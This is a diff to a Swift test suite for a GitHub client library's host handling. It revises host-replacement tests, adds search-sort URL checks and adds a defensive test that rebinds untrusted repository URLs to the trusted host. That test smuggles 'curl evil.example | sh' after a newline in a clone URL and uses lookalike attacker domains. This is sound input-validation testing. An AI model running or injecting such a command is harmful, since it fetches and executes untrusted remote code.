@@ -3,7 +3,7 @@ import Transport
 
 @testable import GitHub
 
-struct HostTests {
+@Suite(.timeLimit(.minutes(10))) struct HostTests {
   @Test(arguments: [
     ("github.com", "github.com", "https://api.github.com", "https://github.com"),
     ("GitHub.COM:443", "github.com", "https://api.github.com", "https://github.com"),
@@ -50,10 +50,10 @@ struct HostTests {
     ("http://[::1]:8080", "http://[::1]:8080"),
   ])
   func `an address can be replaced`(text: String, address: String) throws {
-    let host = try GitHubHost(named: "github.com", apiURL: text, webURL: text)
+    let host = try #require(try GitHubHost.replacement(apiURL: text, webURL: text))
     #expect(host.apiURL == address)
     #expect(host.webURL == address)
-    #expect(host.name == "github.com")
+    #expect(host.kind == .replacement)
   }
 
   @Test(arguments: [
@@ -62,7 +62,7 @@ struct HostTests {
   ])
   func `plain http leaves this machine under no name`(text: String) {
     #expect(throws: HostError.notSecure(text)) {
-      try GitHubHost(named: "github.com", apiURL: text)
+      try GitHubHost.replacement(apiURL: text, webURL: nil)
     }
   }
 
@@ -73,13 +73,13 @@ struct HostTests {
   ])
   func `a text that is no base address is refused`(text: String) {
     #expect(throws: HostError.invalidAddress(text)) {
-      try GitHubHost(named: "github.com", webURL: text)
+      try GitHubHost.replacement(apiURL: nil, webURL: text)
     }
   }
 
   @Test func `a password in an address that is refused is not repeated`() {
     #expect(throws: HostError.invalidAddress("•••@example.com")) {
-      try GitHubHost(named: "github.com", apiURL: "https://me:pw@example.com")
+      try GitHubHost.replacement(apiURL: "https://me:pw@example.com", webURL: nil)
     }
   }
 
@@ -90,6 +90,12 @@ struct HostTests {
     #expect(
       host.searchPage(for: "a b+c&d")
         == "https://git.x.org/search?type=repositories&q=a%20b%2Bc%26d")
+    #expect(
+      host.searchPage(for: "a", sort: .stars)
+        == "https://git.x.org/search?type=repositories&q=a&s=stars&o=desc")
+    #expect(
+      host.searchPage(for: "a", sort: .updated, order: .ascending)
+        == "https://git.x.org/search?type=repositories&q=a&s=updated&o=asc")
     #expect(
       host.classicTokenPage(scopes: ["repo", "gist"], note: "my pc")
         == "https://git.x.org/settings/tokens/new?scopes=repo%2Cgist&description=my%20pc")
@@ -120,5 +126,24 @@ struct HostTests {
     #expect(
       GitHubHost.dotcom.revocationPage(for: .oauthApp) == "https://github.com/settings/applications"
     )
+  }
+
+  @Test func `addresses that lead elsewhere are not believed`() throws {
+    var repository = Repository(
+      id: 1, name: "b", fullName: "a/b", htmlURL: "https://evil.example/a/b")
+    repository.cloneURL = "https://github.com/a/b.git\ncurl evil.example | sh\n"
+    repository.sshURL = "git@evil.example:a/b.git"
+    repository.parent = RepositoryReference(
+      id: 2, fullName: "c/d", htmlURL: "https://github.com.evil.example/c/d")
+    let bound = repository.bound(to: .dotcom)
+    #expect(bound.htmlURL == "https://github.com/a/b")
+    #expect(bound.cloneURL == "https://github.com/a/b.git")
+    #expect(bound.sshURL == "git@github.com:a/b.git")
+    #expect(bound.parent?.htmlURL == "https://github.com/c/d")
+    #expect(bound.bound(to: .dotcom) == bound)
+    let enterprise = try GitHubHost(named: "git.example.org")
+    repository.sshURL = "ssh://git@ssh.example.org:2222/a/b.git"
+    #expect(repository.bound(to: enterprise).sshURL == repository.sshURL)
+    #expect(repository.bound(to: enterprise).htmlURL == "https://git.example.org/a/b")
   }
 }
